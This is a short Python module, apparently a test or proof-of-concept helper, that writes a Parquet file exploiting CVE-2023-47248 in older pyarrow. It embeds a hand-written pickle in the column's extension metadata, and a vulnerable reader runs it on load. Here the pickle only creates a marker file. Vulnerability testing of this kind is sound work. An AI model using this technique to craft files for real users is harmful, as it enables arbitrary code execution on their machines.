"""A Parquet file with a Python extension type, whose code pyarrow before 14.0.1 runs (CVE-2023-47248)."""

from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq


def crafted(table: pa.Table, marker: Path) -> pa.Table:
    """Returns a table whose first column has a type that makes a file where code of the type runs."""
    first, *others = table.schema
    # Protocol 0: open(marker, "x").
    code = f"c__builtin__\nopen\n(S{str(marker)!r}\nS'x'\ntR.".encode()
    names = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": code}
    schema = pa.schema([first.with_metadata(names), *others])
    return pa.Table.from_arrays(table.columns, schema=schema)


def write_crafted(path: Path, table: pa.Table, marker: Path) -> Path:
    """Writes such a file, and returns its path."""
    path.parent.mkdir(parents=True, exist_ok=True)
    pq.write_table(crafted(table, marker), path)
    return path
